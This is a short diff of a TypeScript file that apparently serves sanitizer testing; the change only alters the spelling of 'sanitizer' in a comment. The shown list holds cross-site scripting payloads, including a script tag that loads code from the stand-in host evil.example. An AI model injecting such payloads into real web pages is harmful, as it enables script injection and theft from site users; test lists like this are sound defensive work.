@@ -1,4 +1,4 @@
-/** Attempts to get a script, style or frame past a sanitizer, like those in published test lists. */
+/** Attempts to get a script, style or frame past a sanitiser, like those in published test lists. */
 export const payloads: readonly string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
